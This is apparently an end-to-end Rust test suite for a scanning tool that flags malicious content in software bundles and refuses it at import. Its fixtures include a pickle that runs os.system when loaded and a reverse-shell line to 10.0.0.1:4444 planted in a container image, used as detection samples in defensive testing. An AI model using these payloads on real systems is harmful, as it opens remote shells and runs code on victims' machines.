//! Scanning enforced across the gap: `airlock pack` scans images, models and files and signs the results
//! into the bundle (manifest `scan` records and attestation artifacts whose OCI `subject` is the
//! scanned artifact); `airlockd import`'s default policy refuses malicious findings and admits a
//! suspicious one only with a signed waiver naming it.

use airlock_e2e::*;

fn pickles(f: &Fixture) {
    f.sh(r#"python3 - <<'PY'
import os, pickle
class R:
    def __reduce__(self):
        return (os.system, ("echo pwned",))
open("models/tiny/evil.pkl", "wb").write(pickle.dumps(R(), protocol=2))
PY"#)
        .ok();
}

#[test]
fn malicious_findings_are_refused_at_import_and_waivers_admit_suspicious_ones() {
    let f = Fixture::new();
    airlockd(&f, &["init", "--data", "data", "--trust", "root.json"]).ok();
    // Clean content: scanned, recorded as clean, attestation in the bundle, imported.
    let vol = f.pack("clean", &["--sequence", "1"]).remove(0);
    let i = f.airlock(&["--json", "inspect", &vol]).ok().json();
    let scan = i["manifest"]["scan"].as_array().unwrap();
    assert_eq!(
        scan.len(),
        3,
        "the image, the model and the file are scanned: {scan:?}"
    );
    // Every record names the scanner and the YARA rule set it ran with.
    assert!(scan.iter().all(|r| r["scanner"]
        .as_str()
        .unwrap()
        .contains("yara-x 1.22; rules sha256:")));
    assert!(scan
        .iter()
        .all(|r| r["findings"].as_array().unwrap().is_empty()));
    let kinds: Vec<&str> = i["manifest"]["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    // One scan attestation per artifact, the image's and the file's SBOMs and the model's
    // ML-BOM.
    assert_eq!(kinds.iter().filter(|k| **k == "attestation").count(), 6);
    // The attestation's subject is the scanned manifest.
    let att = scan[0]["attestation"]
        .as_str()
        .unwrap()
        .trim_start_matches("sha256:")
        .to_string();
    let m: serde_json::Value = serde_json::from_str(
        &f.sh(&format!("zstd -dc {vol} | tar -xO blobs/sha256/{att}"))
            .ok()
            .stdout,
    )
    .unwrap();
    assert_eq!(m["subject"]["digest"], scan[0]["subject"]);
    assert_eq!(m["artifactType"], "application/vnd.airlock.scan.v1+json");
    airlockd(&f, &["import", "--data", "data", &vol]).ok();

    // A malicious pickle: packed with its finding, refused by the appliance's policy.
    pickles(&f);
    let reason = refused(&f, &f.pack("bad", &["--sequence", "2"]).remove(0));
    assert!(
        reason.contains("malicious finding pickle/denylisted-global in acme/tiny-model (evil.pkl)"),
        "{reason}"
    );

    // A suspicious pickle (an unlisted global): refused without a waiver, admitted with one.
    f.sh("rm models/tiny/evil.pkl && printf '\\x80\\x02cmymodule\\nMyClass\\nq\\x00)\\x81q\\x01.' > models/tiny/odd.pkl").ok();
    let reason = refused(&f, &f.pack("odd", &["--sequence", "3"]).remove(0));
    assert!(
        reason.contains(
            "pickle/unknown-global:mymodule.MyClass in acme/tiny-model (odd.pkl) has no waiver"
        ),
        "{reason}"
    );
    f.sh(r#"cat >> m.yaml <<'YAML'
  waivers:
    - artifact: acme/tiny-model
      finding: pickle/unknown-global:mymodule.MyClass
      file: odd.pkl
      reason: reviewed by the ML platform team on 2026-11-20
YAML"#)
        .ok();
    let vol = f.pack("waived", &["--sequence", "4"]).remove(0);
    airlockd(&f, &["import", "--data", "data", &vol]).ok();
    // The admitted bundle's scan results and waiver are in the audit trail's policy decision.
    let audit = airlockd(&f, &["--json", "audit", "show", "--data", "data"])
        .ok()
        .json();
    let allowed = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "policy-decision" && e["data"]["allow"] == true)
        .count();
    assert_eq!(allowed, 2);
}

/// Container image layers are unpacked as a stream and every file in them is scanned: a
/// reverse shell in an image (made by umoci, whose layers end without tar padding) is signed
/// into the bundle as a malicious finding and refused at import. Operator rules (`--rules`)
/// run beside the built-in ones, and a finding of a rule marked suspicious is admitted with a
/// signed waiver.
#[test]
fn image_layers_and_operator_rules() {
    let f = Fixture::new();
    airlockd(&f, &["init", "--data", "data", "--trust", "root.json"]).ok();
    f.sh(r#"
mkdir -p src/evil/opt rules
printf '#!/bin/sh\nsh -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' > src/evil/opt/start.sh
umoci init --layout layouts/evil
umoci new --image layouts/evil:v1
umoci insert --image layouts/evil:v1 src/evil/opt /opt >/dev/null
umoci config --image layouts/evil:v1 --architecture amd64 --os linux >/dev/null
cat > e.yaml <<'YAML'
apiVersion: airlock/v1
kind: Bundle
metadata: {name: evil, version: "1.0.0", channel: stable}
spec:
  images:
    - ref: oci:./layouts/evil:v1
      name: registry.example/acme/evil:v1
YAML
"#)
        .ok();
    let vol = f
        .pack_manifest("e.yaml", "bad", &["--sequence", "1"])
        .remove(0);
    let i = f.airlock(&["--json", "inspect", &vol]).ok().json();
    let rec = &i["manifest"]["scan"][0];
    assert_eq!(rec["artifact"], "registry.example/acme/evil:v1");
    let found = &rec["findings"][0];
    assert_eq!(found["rule"], "yara/builtin/reverse_shell", "{rec}");
    assert_eq!(found["member"], "opt/start.sh");
    assert!(found["file"]
        .as_str()
        .unwrap()
        .starts_with("registry.example/acme/evil:v1 layer sha256:"));
    let reason = refused(&f, &vol);
    assert!(
        reason.contains(
            "malicious finding yara/builtin/reverse_shell in registry.example/acme/evil:v1"
        ),
        "{reason}"
    );

    // Operator rules: a suspicious marker in the (otherwise clean) hello image.
    f.sh(r#"cat > rules/corp.yar <<'YAR'
rule corp_marker
{
    meta:
        severity = "suspicious"
        description = "text marked for internal use only"
    strings:
        $m = "hello from airlock"
    condition:
        $m
}
YAR"#)
        .ok();
    let vol = f
        .pack("marked", &["--sequence", "2", "--rules", "rules"])
        .remove(0);
    let reason = refused(&f, &vol);
    assert!(
        reason.contains("yara/corp/corp_marker in registry.example/acme/hello:v1"),
        "{reason}"
    );
    assert!(reason.contains("has no waiver"), "{reason}");
    // A rule file that does not compile stops the pack before any work, naming the file.
    f.sh("echo 'rule broken { condition: $x }' > rules/broken.yar")
        .ok();
    let r = f
        .airlock(&[
            "pack",
            "m.yaml",
            "--key",
            "keys/signer.key",
            "--out",
            "never",
            "--rules",
            "rules",
        ])
        .fails();
    assert!(r.stderr.contains("broken.yar"), "{}", r.stderr);
    assert!(!f.path().join("never").exists());
    f.sh("rm rules/broken.yar").ok();
    f.sh(r#"cat >> m.yaml <<'YAML'
  waivers:
    - artifact: registry.example/acme/hello:v1
      finding: yara/corp/corp_marker
      reason: the greeting is public text
YAML"#)
        .ok();
    let vol = f
        .pack("waived", &["--sequence", "3", "--rules", "rules"])
        .remove(0);
    airlockd(&f, &["import", "--data", "data", &vol]).ok();
}

/// Imports `vol` expecting a refusal; the policy's reason.
fn refused(f: &Fixture, vol: &str) -> String {
    let r = airlockd(f, &["--json", "import", "--data", "data", vol]).refused();
    r.json()["volumes"][0]["reason"]
        .as_str()
        .unwrap()
        .to_string()
}
